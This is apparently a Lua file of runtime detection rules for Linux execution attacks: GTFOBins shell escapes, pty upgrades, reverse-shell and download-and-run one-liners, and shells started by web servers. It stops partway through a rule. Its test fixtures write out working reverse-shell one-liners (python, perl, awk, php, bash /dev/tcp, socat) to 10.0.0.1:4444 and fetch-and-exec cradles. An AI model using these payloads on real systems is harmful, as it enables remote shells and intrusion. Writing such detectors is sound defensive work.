-- Execution (ATT&CK TA0002): shells escaping from programs that can run
-- commands (GTFOBins), shells upgraded to a terminal, interpreters given
-- network or download code on their command line, shells that talk to the
-- network themselves, web and database servers starting shells, and
-- interactive shells inside containers.
--
-- An "interactive" shell here is one that reads its commands from its
-- input (a person, a pipe or a socket), not a script: no operand, -i, -s,
-- or -c whose command only starts such a shell ("sh -c /bin/sh",
-- "bash -c 'exec bash -i 0<&3'"). Scripts and `sh -c "make all"` are not.

local basename, startswith = tapio.basename, tapio.startswith

-- interactive_shell(e) and command_is_shell(cmd) are macros (rules/lib/macros.lua).

-- Programs that run a command line given to them (GTFOBins' "shell"
-- function): editors, pagers, text tools, debuggers, interpreters.
local ESCAPERS = tapio.set {
  "awk", "gawk", "mawk", "nawk", "busybox", "find", "xargs", "vi", "vim", "vim.basic", "vim.tiny",
  "nvim", "view", "rvim", "rview", "ex", "ed", "red", "emacs", "nano", "pico", "less", "more",
  "most", "pg", "man", "gdb", "lldb", "ftp", "sftp", "tar", "zip", "rsync", "nmap", "sqlite3",
  "mysql", "psql", "sed", "git", "flock", "strace", "ltrace", "expect", "tclsh", "wish", "irb",
  "jjs", "jrunscript", "node", "nodejs", "perl", "ruby", "php", "lua", "luajit", "python",
  "socat", "openssl", "script", "dmesg", "journalctl", "systemctl", "ssh", "scp", "crash",
  "time", "watch", "taskset", "env", "rlwrap", "csvtool", "gimp", "dc", "bc", "pdb",
}

local function escaper(name)
  if name == nil then return false end
  -- versioned interpreters: python3.11, perl5.36.0, lua5.4, php8.2, tclsh8.6
  local stem = name:match("^(%a+)[%d.]*$") or name
  return ESCAPERS[name] or ESCAPERS[stem] or false
end

-- Programs whose child shells are the point: terminals, multiplexers, login
-- and privilege tools, and package or build tools that run shell snippets
-- with a bare shell. Extend with exceptions for your own.
local SHELL_PARENTS_EXPECTED = tapio.set {
  "sshd", "login", "su", "sudo", "doas", "runuser", "tmux", "tmux: server", "screen", "SCREEN",
  "xterm", "gnome-terminal-", "konsole", "alacritty", "kitty", "wezterm-gui", "terminator",
  "code", "sh", "bash", "dash", "zsh", "fish", "ksh", "systemd", "init", "agetty",
}

rule {
  name = "shell_escape_from_program",
  desc = "An interactive shell was started by a program that runs commands given to it "
      .. "(awk, find, vim, less, man, gdb, python, perl, ruby, node, lua...): the GTFOBins way "
      .. "out of a restricted program, a sudo rule or a web application",
  events = { "process.exec" },
  match = { ret = 0, filename_base = SHELLS }, -- what interactive_shell needs first
  severity = "warning",
  importance = 0.8,
  tags = { "mitre:T1059.004", "mitre:T1548.003", "gtfobins" },
  when = function(e)
    return interactive_shell(e) and escaper(e.parent.comm)
        and not SHELL_PARENTS_EXPECTED[e.parent.comm]
  end,
  output = "interactive shell ${filename} (${argv}) started by ${parent.comm} (pid ${ppid}, "
        .. "exe ${parent.exe}); uid ${uid}, pid ${pid}, container ${container.id}, "
        .. "pod ${k8s.namespace}/${k8s.pod}",
  tests = {
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh", argv = { "/bin/sh" },
                parent = { comm = "find", exe = "/usr/bin/find" }, ppid = 77 },
      expect = true,
      output = "interactive shell /bin/sh (/bin/sh) started by find (pid 77, exe /usr/bin/find); "
            .. "uid 0, pid 1000, container <NA>, pod <NA>/<NA>" },
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
                argv = { "sh", "-c", "/bin/sh" }, parent = { comm = "awk" } }, expect = true },
    { event = { type = "process.exec", comm = "bash", filename = "/bin/bash",
                argv = { "/bin/bash", "-c", "sh" }, parent = { comm = "vim" } }, expect = true },
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh", argv = { "/bin/sh", "-i" },
                parent = { comm = "python3.11" } }, expect = true },
    { event = { type = "process.exec", comm = "bash", filename = "/usr/bin/bash",
                argv = { "bash", "-c", "exec bash -i 0<&3 1>&3 2>&3" },
                parent = { comm = "perl" } }, expect = true },
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
                argv = { "sh", "-c", "/bin/sh -c '/bin/sh -i'" }, parent = { comm = "less" } },
      expect = true },
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
                argv = { "sh", "-c", "/bin/sh -c id" }, parent = { comm = "less" } },
      expect = false },
    { event = { type = "process.exec", comm = "busybox", filename = "/bin/busybox",
                argv = { "busybox", "sh" }, parent = { comm = "less" } }, expect = true },
    -- a command or a script is not an interactive shell
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
                argv = { "sh", "-c", "gcc -c x.c" }, parent = { comm = "python3" } },
      expect = false },
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
                argv = { "sh", "./configure" }, parent = { comm = "perl" } }, expect = false },
    { event = { type = "process.exec", comm = "bash", filename = "/bin/bash", argv = { "-bash" },
                parent = { comm = "sshd" } }, expect = false },
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh", argv = { "/bin/sh" },
                parent = { comm = "find" }, ret = -2 }, expect = false },
  },
}

rule {
  name = "shell_upgraded_to_terminal",
  desc = "A shell was given a pseudo-terminal the way attackers upgrade a reverse shell: "
      .. "python's pty.spawn, script -c ... /dev/null, socat's pty,setsid, expect's spawn",
  events = { "process.exec" },
  -- python, perl, ruby: only with a pty call in the command line (when's test)
  match = { ret = 0, filename_base = { "script", "socat", "python*", "perl*", "ruby*", "expect" },
            one_of = { { filename_base = { "script", "socat", "expect" } },
                       { cmdline = { "*pty.spawn*", "*pty.fork*", "*IO::Pty*", "*PTY.spawn*" } } } },
  severity = "warning",
  importance = 0.8,
  tags = { "mitre:T1059.004", "mitre:T1059.006" },
  when = function(e)
    local name, c = basename(e.filename), e.cmdline
    if name == "script" then
      -- script -qc /bin/bash /dev/null: a terminal for a shell, the session thrown away
      local argv, shell, null = e.argv, false, false
      for i = 2, #argv do
        local a = argv[i]
        if a == "/dev/null" then null = true end
        if command_is_shell(a) then shell = true end
      end
      return shell and null
    end
    if name == "socat" then
      return c:find("pty", 1, true) ~= nil and (c:find("exec:", 1, true) or c:find("EXEC:", 1, true)
          or c:find("system:", 1, true) or c:find("SYSTEM:", 1, true)) ~= nil
          and c:find("sh", 1, true) ~= nil
    end
    if name:find("^python") or name:find("^perl") or name:find("^ruby") then
      return c:find("pty.spawn", 1, true) ~= nil or c:find("pty.fork", 1, true) ~= nil
          or c:find("IO::Pty", 1, true) ~= nil or c:find("PTY.spawn", 1, true) ~= nil
    end
    if name == "expect" then
      return c:find("spawn", 1, true) ~= nil and c:find("sh", 1, true) ~= nil
    end
    return false
  end,
  output = "${comm} gave a shell a terminal: ${argv} (pid ${pid}, uid ${uid}, parent "
        .. "${parent.comm} pid ${ppid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod})",
  tests = {
    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
                argv = { "python3", "-c", "import pty; pty.spawn('/bin/bash')" } }, expect = true },
    { event = { type = "process.exec", comm = "script", filename = "/usr/bin/script",
                argv = { "script", "-qc", "/bin/bash", "/dev/null" } }, expect = true },
    { event = { type = "process.exec", comm = "socat", filename = "/usr/bin/socat",
                argv = { "socat", "exec:bash -li,pty,stderr,setsid,sigint,sane", "tcp:10.0.0.1:4444" } },
      expect = true },
    { event = { type = "process.exec", comm = "script", filename = "/usr/bin/script",
                argv = { "script", "session.log" } }, expect = false },
    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
                argv = { "python3", "-m", "pytest" } }, expect = false },
  },
}

-- Inline code of an interpreter: what follows -c, -e, -r, --eval, or awk's
-- program text. nil when the code comes from a file.
local INLINE_FLAG = {
  python = { ["-c"] = true }, perl = { ["-e"] = true, ["-E"] = true },
  ruby = { ["-e"] = true }, node = { ["-e"] = true, ["--eval"] = true, ["-p"] = true,
                                     ["--print"] = true },
  nodejs = { ["-e"] = true, ["--eval"] = true }, php = { ["-r"] = true },
  lua = { ["-e"] = true }, luajit = { ["-e"] = true }, pwsh = { ["-c"] = true,
                                                              ["-Command"] = true },
}
local AWKS = tapio.set { "awk", "gawk", "mawk", "nawk" }
-- What inline_code reads, for a match: awk (its program is its first
-- operand), and the others (python3.11 as python) only when their first
-- argument is an option, since the code follows a flag before any operand.
local INLINE_MATCH = { ret = 0, one_of = {
  { filename_base = { "awk*", "gawk*", "mawk*", "nawk*" } },
  { filename_base = { "python*", "perl*", "ruby*", "node*", "php*", "lua*", "pwsh*" },
    ["argv[2]"] = "-*" } } }

local function inline_code(e)
  local name = basename(e.filename)
  if name == nil or e.argv == nil then return nil end
  local stem = name:match("^(%a+)[%d.]*$") or name
  local argv = e.argv
  if AWKS[stem] then
    local i = 2
    while argv[i] do
      local a = argv[i]
      if a == "-f" or startswith(a, "--file") then return nil end
      if a == "-F" or a == "-v" then
        i = i + 1 -- the next one is the option's argument
      elseif not startswith(a, "-") then
        return a
      end
      i = i + 1
    end
    return nil
  end
  local flags = INLINE_FLAG[stem]
  if not flags then return nil end
  for i = 2, #argv do
    local a = argv[i]
    if flags[a] then return argv[i + 1] end
    -- python -Sc 'code', perl -ne 'code'
    local short = a:match("^%-(%a+)$")
    if short and stem ~= "node" and stem ~= "nodejs" then
      local last = short:sub(-1)
      if flags["-" .. last] and #short > 1 then return argv[i + 1] end
    end
    if not startswith(a, "-") then return nil end -- a script file
  end
  return nil
end

local function any(s, list)
  for _, p in ipairs(list) do
    if s:find(p, 1, true) then return p end
  end
  return nil
end

-- What code connects with, and what it runs commands with.
local NET_CALLS = {
  "socket.socket", "create_connection", "connect(", "use Socket", "IO::Socket", "Socket::", "TCPSocket",
  "UDPSocket", "Socket.new", "net.connect", "net.createConnection", "new net.Socket",
  "require('net')", 'require("net")', "fsockopen", "stream_socket_client", "/inet/tcp/",
  "/inet/udp/", "socket.tcp", "socket.connect", "/dev/tcp/", "/dev/udp/",
}
local RUN_CALLS = {
  "dup2", "pty.spawn", "subprocess", "os.system", "os.popen", "os.exec", "exec(", "exec ",
  "system", "spawn(", "popen", "child_process", "proc_open", "shell_exec", "passthru", "os.execute", "io.popen", "Open3", "`", "|&", "/bin/sh", "/bin/bash", "sh -i", "cmd.exe",
}

rule {
  name = "interpreter_reverse_shell_code",
  desc = "An interpreter was started with inline code that opens a network connection and "
      .. "runs a shell or commands over it: a reverse or bind shell one-liner (python, perl, "
      .. "ruby, php, node, lua, awk)",
  events = { "process.exec" },
  match = INLINE_MATCH,
  severity = "critical",
  importance = 0.95,
  tags = { "mitre:T1059.006", "mitre:T1059.004", "mitre:T1071" },
  when = function(e)
    local code = inline_code(e)
    return code ~= nil and any(code, NET_CALLS) ~= nil and any(code, RUN_CALLS) ~= nil
  end,
  output = "reverse shell one-liner in ${comm} (pid ${pid}, uid ${uid}, parent ${parent.comm} "
        .. "pid ${ppid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod}): ${argv}",
  tests = {
    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
                argv = { "python3", "-c", "import socket,subprocess,os;s=socket.socket();"
                      .. "s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);"
                      .. "subprocess.call(['/bin/sh','-i'])" } }, expect = true },
    { event = { type = "process.exec", comm = "perl", filename = "/usr/bin/perl",
                argv = { "perl", "-MIO", "-e", "$c=new IO::Socket::INET(PeerAddr,'10.0.0.1:4444');"
                      .. "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;" } },
      expect = true },
    { event = { type = "process.exec", comm = "awk", filename = "/usr/bin/gawk",
                argv = { "awk", "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while ((s |& getline c) > 0) "
                      .. "{ while ((c |& getline) > 0) print $0 |& s } }" } }, expect = true },
    { event = { type = "process.exec", comm = "php", filename = "/usr/bin/php",
                argv = { "php", "-r", "$s=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3');" } },
      expect = true },
    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
                argv = { "python3", "-c", "import socket; print(socket.gethostname())" } },
      expect = false },
    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
                argv = { "python3", "script.py", "-c", "s.connect() os.system" } }, expect = false },
  },
}

local FETCH_CALLS = {
  "urlopen", "urllib.request", "urlretrieve", "requests.get", "http.client", "httpx.",
  "LWP::", "HTTP::Tiny", "getstore(", "Net::HTTP", "open-uri", "URI.open", "http.get(",
  "https.get(", "require('http", 'require("http', "fetch(", "file_get_contents('http", 'file_get_contents("http', "curl_exec",
  "wget ", "curl ", "socket.http",
}
local EXEC_CALLS = {
  "exec(", "eval(", "subprocess", "os.system", "os.popen", "system(", "chmod", "spawn(",
  "execSync", "child_process", "shell_exec", "passthru", "os.execute", "loadstring", "load(",
  "| sh", "|sh", "| bash", "|bash",
}

rule {
  name = "interpreter_download_and_run",
  desc = "An interpreter was started with inline code that fetches something over the "
      .. "network and runs it or makes it executable: a download cradle",
  events = { "process.exec" },
  match = INLINE_MATCH,
  severity = "warning",
  importance = 0.85,
  tags = { "mitre:T1105", "mitre:T1059.006" },
  when = function(e)
    local code = inline_code(e)
    return code ~= nil and any(code, FETCH_CALLS) ~= nil and any(code, EXEC_CALLS) ~= nil
  end,
  output = "download-and-run code in ${comm} (pid ${pid}, uid ${uid}, parent ${parent.comm} "
        .. "pid ${ppid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod}): ${argv}",
  tests = {
    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
                argv = { "python3", "-c", "import urllib.request as u;exec(u.urlopen('http://x/a').read())" } },
      expect = true },
    { event = { type = "process.exec", comm = "perl", filename = "/usr/bin/perl",
                argv = { "perl", "-MLWP::Simple", "-e", "getstore('http://x/a','/tmp/a');system('chmod +x /tmp/a')" } },
      expect = true },
    { event = { type = "process.exec", comm = "node", filename = "/usr/bin/node",
                argv = { "node", "-e", "require('http').get('http://x/a',r=>{let d='';r.on('data',c=>d+=c);"
                      .. "r.on('end',()=>eval(d))})" } }, expect = true },
    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
                argv = { "python3", "-c", "import urllib.request as u;print(u.urlopen('http://x').status)" } },
      expect = false },
  },
}

rule {
  name = "shell_opened_network_connection",
  desc = "A shell or awk opened a network connection itself (bash's /dev/tcp, gawk's "
      .. "/inet/tcp): shells do not talk to the network, reverse shells do",
  events = { "network.connect" },
  -- a shell or awk by its program (exe) or by its name (comm)
  match = { family = { 2, 10 }, one_of = { { comm = SHELLS }, { comm = AWKS }, { exe_base = SHELLS },
                                         { exe_base = AWKS } } },
  severity = "critical",
  importance = 0.95,
  tags = { "mitre:T1059.004", "mitre:T1071" },
  when = function(e)
    local name = basename(e.exe) or e.comm
    -- port 0: getaddrinfo's connect of a UDP socket to pick a source address
    return (e.family == 2 or e.family == 10) and e.dport ~= 0 and (SHELLS[name] or AWKS[name]
        or SHELLS[e.comm] or AWKS[e.comm])
  end,
  output = "${comm} (pid ${pid}, exe ${exe}, uid ${uid}, parent ${parent.comm} pid ${ppid}) "
        .. "connected to ${daddr}:${dport}; container ${container.id}, "
        .. "pod ${k8s.namespace}/${k8s.pod}; command: ${argv}",
  tests = {
    { event = { type = "network.connect", comm = "bash", exe = "/usr/bin/bash", family = 2,
                daddr = "10.0.0.1", dport = 4444, ret = 0 }, expect = true },
    { event = { type = "network.connect", comm = "gawk", exe = "/usr/bin/gawk", family = 2,
                daddr = "10.0.0.1", dport = 4444, ret = -115 }, expect = true },
    { event = { type = "network.connect", comm = "gawk", exe = "/usr/bin/gawk", family = 10,
                daddr = "::1", dport = 0 }, expect = false },
    { event = { type = "network.connect", comm = "bash", exe = "/usr/bin/bash", family = 1,
                unix_path = "/run/dbus/system_bus_socket" }, expect = false },
    { event = { type = "network.connect", comm = "curl", exe = "/usr/bin/curl", family = 2,
                daddr = "10.0.0.1", dport = 80 }, expect = false },
  },
}

-- ------------------------------------------------------------ stdio on a connection
-- The effect every reverse and bind shell has, whatever built it: a TCP or
-- UDP connection duplicated onto standard input, output or error (the kernel's
-- network.stdio_socket: dup2, dup3, fcntl F_DUPFD onto fd 0-2), then a shell
-- or an interpreter run with it (process.exec's stdin_socket/stdout_socket).
-- bash >& /dev/tcp, nc -e, ncat --sh-exec, socat exec:, python os.dup2,
-- perl open(STDIN, "<&"), a bind shell's accepted connection alike.
-- inetd-style supervisors (STDIO_SOCKET_SUPERVISORS, rules/lib/lists.lua)
-- do it by design; extend the list with append().

local function inet_peer(e)
  -- a listening socket on stdio (inetd "wait" services) has no peer
  return (e.family == 2 or e.family == 10) and e.dport ~= nil and e.dport ~= 0
end

local function supervised(e)
  -- the supervisor's forked child still has its name until it execs; a
  -- systemd child is named "(unit)" until then
  local c = e.comm
  if STDIO_SOCKET_SUPERVISORS[c] or (c ~= nil and c:sub(1, 1) == "(") then return true end
  local p = e.parent
  return p ~= nil and STDIO_SOCKET_SUPERVISORS[p.comm] == true
end

local function shell_or_interpreter(name)
  if name == nil then return false end
  return SHELLS[name] or INTERPRETERS[name] or INTERPRETERS[name:match("^(%a+)") or ""] or false
end

rule {
  name = "network_connection_on_standard_io",
  desc = "A process put a TCP or UDP connection on its standard input, output or error "
      .. "(dup2/dup3/fcntl of a connected socket onto fd 0-2): what a reverse or bind shell "
      .. "does before the shell runs, whatever tool or language does it",
  events = { "network.stdio_socket" },
  match = { family = { 2, 10 } },
  severity = "error",
  importance = 0.9,
  tags = { "mitre:T1059.004", "mitre:T1071", "mitre:T1095" },
  -- one alert per process (it usually does fd 0, 1 and 2)
  state = { seen = tapio.map { ttl = "10m" } },
  when = function(e, s)
    if not inet_peer(e) or supervised(e) or s.seen:get(e) then return false end
    s.seen:set(e, true)
    return true
  end,
  output = "${comm} (pid ${pid}, exe ${exe|'?'}, uid ${uid}, parent ${parent.comm|'?'}[${ppid}]) "
        .. "put its connection ${saddr}:${sport} -> ${daddr}:${dport} on fd ${newfd} "
        .. "(${syscall_str}); container ${container.id|'host'}, pod "
        .. "${k8s.namespace|'-'}/${k8s.pod|'-'}; command: ${argv|'?'}",
  tests = {
    { event = { type = "network.stdio_socket", comm = "bash", exe = "/usr/bin/bash", pid = 70,
                ppid = 69, parent = { comm = "bash" }, newfd = 1, fd = 3, family = 2,
                protocol = 6, saddr = "127.0.0.1", sport = 50000, daddr = "127.0.0.1",
                dport = 4444, syscall = "dup2",
                argv = { "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" } },
      expect = true,
      output = "bash (pid 70, exe /usr/bin/bash, uid 0, parent bash[69]) put its connection "
            .. "127.0.0.1:50000 -> 127.0.0.1:4444 on fd 1 (dup2); container host, pod -/-; "
            .. "command: bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" },
    -- fd 0, 1, 2 of one process: one alert
    { events = { { type = "network.stdio_socket", comm = "nc", pid = 71, newfd = 0, family = 2,
                   daddr = "10.0.0.1", dport = 4444 },
                 { type = "network.stdio_socket", comm = "nc", pid = 71, newfd = 1, family = 2,
                   daddr = "10.0.0.1", dport = 4444 } }, expect = 1 },
    { event = { type = "network.stdio_socket", comm = "python3", newfd = 0, family = 10,
                daddr = "::1", dport = 9001 }, expect = true },
    -- a unix socket (sshd's socketpairs, the journal), a listening socket, a supervisor
    { event = { type = "network.stdio_socket", comm = "sshd", newfd = 0, family = 1,
                unix_path = "" }, expect = false },
    { event = { type = "network.stdio_socket", comm = "sshd", newfd = 0, family = 2,
                saddr = "0.0.0.0", sport = 22, dport = 0 }, expect = false },
    { event = { type = "network.stdio_socket", comm = "(echo)", newfd = 0, family = 2,
                daddr = "10.0.0.1", dport = 40000, parent = { comm = "systemd" } },
      expect = false },
    { event = { type = "network.stdio_socket", comm = "xinetd", newfd = 1, family = 2,
                daddr = "10.0.0.1", dport = 40000 }, expect = false },
  },
}

rule {
  name = "shell_started_on_network_connection",
  desc = "A shell or an interpreter started with a TCP or UDP connection as its standard "
      .. "input or output, or on a socket pair that a program holding a fresh connection "
      .. "relays (socat exec:, ncat -e): a reverse or bind shell (nc -e, bash >& /dev/tcp, "
      .. "a script that dup2s a socket and runs sh), whatever spawned it",
  events = { "network.stdio_socket", "network.connect", "network.accept", "process.exec" },
  -- EINPROGRESS (-115): a non-blocking connect on its way
  match = { ["network.stdio_socket"] = { family = { 2, 10 } },
            ["network.connect"] = { family = { 2, 10 }, protocol = 6, ret = { 0, -115 } },
            ["network.accept"] = { family = { 2, 10 }, protocol = 6 },
            -- the exec context's bits are 0 or 1: only execs with a socket on fd 0 or 1
            ["process.exec"] = { ret = 0, ["stdin_socket|stdout_socket"] = 1 } },
  severity = "critical",
  importance = 0.95,
  tags = { "mitre:T1059.004", "mitre:T1071", "mitre:T1095" },
  -- wired: processes that put a connection on their stdio, for the shell
  -- they run or fork (the socket is inherited); relay: processes that just
  -- opened or accepted a TCP connection, for a child on a socket pair
  state = { wired = tapio.map { ttl = "10m" }, relay = tapio.map { ttl = "60s" } },
  -- a connect the match let through marks its process in C: no Lua call
  remember = { ["network.connect"] = "relay" },
  when = function(e, s)
    local t = e.type
    if t == "network.stdio_socket" then
      if inet_peer(e) and not supervised(e) then s.wired:set(e, true) end
      return false
    elseif t ~= "process.exec" then
      -- an accept (a failed one has no peer)
      if e.dport ~= 0 and e.ret >= 0 then s.relay:set(e, true) end
      return false
    end
    local sin, sout = e.stdin_socket, e.stdout_socket
    if not (sin or sout) then return false end
    if not shell_or_interpreter(basename(e.filename)) or supervised(e) then return false end
    local parent = tapio.process(e.ppid)
    if s.wired:get(e) or s.wired:get(parent) then return true end
    -- a relay's child on a socket pair: only a shell or interpreter reading its
    -- program from the peer (libuv gives every child of node socket pairs, and
    -- `sh -c "git status"` from a web app is ordinary)
    return sin and sout and s.relay:get(parent) == true and reads_program_from_input(e)
  end,
  output = "${filename} (${argv}) started with a network connection on its standard "
        .. "input/output (stdin socket: ${stdin_socket}, stdout socket: ${stdout_socket}); "
        .. "pid ${pid}, uid ${uid}, was ${old_comm|comm}, parent ${parent.comm|'?'}[${ppid}] "
        .. "(exe ${parent.exe|'?'}), tty ${tty|'none'}, container ${container.id|'host'}, "
        .. "pod ${k8s.namespace|'-'}/${k8s.pod|'-'}",
  tests = {
    -- nc -e /bin/sh: nc wires the connection, then becomes sh
    { events = { { type = "network.stdio_socket", comm = "nc", pid = 80, newfd = 0, family = 2,
                   daddr = "127.0.0.1", dport = 4444 },
                 { type = "process.exec", comm = "sh", pid = 80, filename = "/bin/sh",
                   argv = { "/bin/sh" }, stdin_socket = true, stdout_socket = true,
                   old_comm = "nc" } },
      expect = 2,
      output = "/bin/sh (/bin/sh) started with a network connection on its standard "
            .. "input/output (stdin socket: true, stdout socket: true); pid 80, uid 0, was nc, "
            .. "parent ?[1] (exe ?), tty none, container host, pod -/-" },
    -- python dup2s in itself, then forks sh -i
    { events = { { type = "network.stdio_socket", comm = "python3", pid = 81, newfd = 1,
                   family = 2, daddr = "10.0.0.1", dport = 443 },
                 { type = "process.exec", comm = "sh", pid = 82, ppid = 81, filename = "/bin/sh",
                   argv = { "/bin/sh", "-i" }, stdin_socket = true, stdout_socket = true } },
      expect = 2 },
    { events = { { type = "network.stdio_socket", comm = "socat", pid = 83, newfd = 0,
                   family = 10, daddr = "::1", dport = 4444 },
                 { type = "process.exec", comm = "perl", pid = 83, filename = "/usr/bin/perl",
                   argv = { "perl" }, stdout_socket = true } }, expect = 2 },
    -- socat TCP:... EXEC:sh: socat connects and relays over a socket pair
    { events = { { type = "network.connect", comm = "socat", pid = 87, family = 2, protocol = 6,
                   daddr = "127.0.0.1", dport = 4444 },
                 { type = "process.exec", comm = "sh", pid = 88, ppid = 87, filename = "/bin/sh",
                   argv = { "sh", "-i" }, stdin_socket = true, stdout_socket = true } },
      expect = 2 },
    -- stdio that is no socket (a pipe, a terminal)
    { events = { { type = "network.stdio_socket", comm = "nc", pid = 93, newfd = 0, family = 2,
                   daddr = "127.0.0.1", dport = 4444 },
                 { type = "process.exec", comm = "sh", pid = 93, filename = "/bin/sh",
                   argv = { "/bin/sh" } } }, expect = false },
    -- a shell with a unix socket on stdio (no connection seen): not this rule
    { event = { type = "process.exec", comm = "bash", pid = 84, filename = "/bin/bash",
                argv = { "bash" }, stdin_socket = true, stdout_socket = true }, expect = false },
    -- a server that accepted a connection runs a command on socket pairs (node)
    { events = { { type = "network.accept", comm = "node", pid = 91, family = 2, protocol = 6,
                   daddr = "10.0.0.1", dport = 50000 },
                 { type = "process.exec", comm = "sh", pid = 92, ppid = 91, filename = "/bin/sh",
                   argv = { "/bin/sh", "-c", "git rev-parse HEAD" }, stdin_socket = true,
                   stdout_socket = true } }, expect = false },
    -- a program that connected runs a shell on pipes
    { events = { { type = "network.connect", comm = "make", pid = 89, family = 2, protocol = 6,
                   daddr = "10.0.0.1", dport = 443 },
                 { type = "process.exec", comm = "sh", pid = 90, ppid = 89, filename = "/bin/sh",
                   argv = { "sh", "-c", "cc x.c" } } }, expect = false },
    -- the wired process runs something that is no shell
    { events = { { type = "network.stdio_socket", comm = "nc", pid = 85, newfd = 0, family = 2,
                   daddr = "127.0.0.1", dport = 4444 },
                 { type = "process.exec", comm = "cat", pid = 85, filename = "/bin/cat",
                   argv = { "cat" }, stdin_socket = true } }, expect = false },
    -- an inetd service's script
    { events = { { type = "network.stdio_socket", comm = "xinetd", pid = 86, newfd = 0,
                   family = 2, daddr = "10.0.0.1", dport = 4444 },
                 { type = "process.exec", comm = "sh", pid = 86, filename = "/bin/sh",
                   argv = { "/bin/sh", "/usr/local/lib/svc.sh" }, stdin_socket = true,
                   parent = { comm = "xinetd" } } }, expect = false },
  },
}

local SERVER_NAMES = {
  "nginx", "httpd", "apache2", "apache", "lighttpd", "caddy", "php-fpm", "php-cgi", "php-fpm8.2",
  "uwsgi", "tomcat", "catalina", "jetty", "traefik", "haproxy", "envoy", "openresty",
  "mysqld", "mariadbd", "postgres", "postmaster", "redis-server", "mongod", "memcached",
  "influxd", "elasticsearch", "couchdb", "rabbitmq-server", "beam.smp", "php-fpm*",
}
local WEB_AND_DB_SERVERS = tapio.set(SERVER_NAMES)
local SHELL_OR_RECON = tapio.set {
  "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python", "python3", "perl", "ruby",
  "php", "lua", "node", "nc", "ncat", "netcat", "socat", "curl", "wget", "id", "whoami",
  "uname", "hostname", "ifconfig", "ip", "ps", "cat", "ls", "w", "who", "netstat", "ss",
}

rule {
  name = "server_process_spawned_shell",
  desc = "A web or database server started a shell, an interpreter or a reconnaissance "
      .. "command: a web shell or an exploited server running the attacker's commands",
  events = { "process.exec" },
  match = { ret = 0, ["parent.comm"] = SERVER_NAMES },
  severity = "error",
  importance = 0.9,
  tags = { "mitre:T1505.003", "mitre:T1190", "mitre:T1059" },
  when = function(e)
    local p = e.parent.comm
    if p == nil then return false end
    local stem = p:match("^(php%-fpm)") or p
    return (WEB_AND_DB_SERVERS[p] or WEB_AND_DB_SERVERS[stem]) ~= nil
        and SHELL_OR_RECON[(basename(e.filename) or ""):match("^(%a+)[%d.]*$") or ""] ~= nil
  end,
  output = "${parent.comm} (pid ${ppid}, exe ${parent.exe}) started ${filename}: ${argv} "
        .. "(pid ${pid}, uid ${uid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod})",
  tests = {
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
                argv = { "sh", "-c", "id" }, parent = { comm = "php-fpm8.2" } }, expect = true },
    { event = { type = "process.exec", comm = "whoami", filename = "/usr/bin/whoami",
                argv = { "whoami" }, parent = { comm = "httpd" } }, expect = true },
    { event = { type = "process.exec", comm = "python3.11", filename = "/usr/bin/python3.11",
                argv = { "python3" }, parent = { comm = "nginx" } }, expect = true },
    { event = { type = "process.exec", comm = "nginx", filename = "/usr/sbin/nginx",
                argv = { "nginx", "-s", "reload" }, parent = { comm = "nginx" } }, expect = false },
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
                argv = { "sh", "-c", "id" }, parent = { comm = "make" } }, expect = false },
  },
}

-- Programs that give shells their terminals as their job: remote logins,
-- consoles, multiplexers, terminal emulators and IDEs, privilege tools with
-- their own pty (sudo's use_pty), container runtimes. Extend with an
-- exception on the rule ({ rule = "shell_on_new_terminal", parent = "..." }).
local TERMINAL_PROVIDERS = tapio.set {
  "sshd", "sshd-session", "login", "agetty", "getty", "mingetty", "systemd", "init",
  "tmux: server", "tmux", "screen", "SCREEN", "dtach", "abduco", "mosh-server", "zellij",
  "xterm", "uxterm", "gnome-terminal-", "konsole", "alacritty", "kitty", "wezterm-gui", "foot",
  "terminator", "tilix", "xfce4-terminal", "lxterminal", "mate-terminal", "urxvt", "rxvt",
  "st", "guake", "yakuake", "terminology", "ghostty", "code", "code-server", "emacs", "vim",
  "nvim", "sudo", "su", "runuser", "doas", "pkexec", "machinectl", "systemd-nspawn",
  "lxc-attach", "docker", "containerd-shim", "conmon", "runc", "crun", "cockpit-session",
  "cockpit-bridge", "ttyd", "gotty", "shellinaboxd", "teleport", "Xorg",
  -- script(1) recording a session to a file (script ... /dev/null is shell_upgraded_to_terminal)
  "script",
}

rule {
  name = "shell_on_new_terminal",
  desc = "A shell started as the leader of a new session on a terminal that a program other "
      .. "than a login, console, multiplexer or terminal emulator made for it: a reverse or "
      .. "web shell upgraded to a full terminal (python pty.spawn, ruby PTY.spawn, perl "
      .. "IO::Pty, socat pty, expect, a forkpty binary), whatever language did it",
  events = { "process.exec" },
  match = { ret = 0, filename_base = SHELLS, tty = true },
  severity = "warning",
  importance = 0.8,
  tags = { "mitre:T1059.004", "mitre:T1059.006", "mitre:T1071" },
  when = function(e)
    local par = e.parent
    return e.sid == e.pid and par ~= nil and par.comm ~= nil
        and not TERMINAL_PROVIDERS[par.comm]
  end,
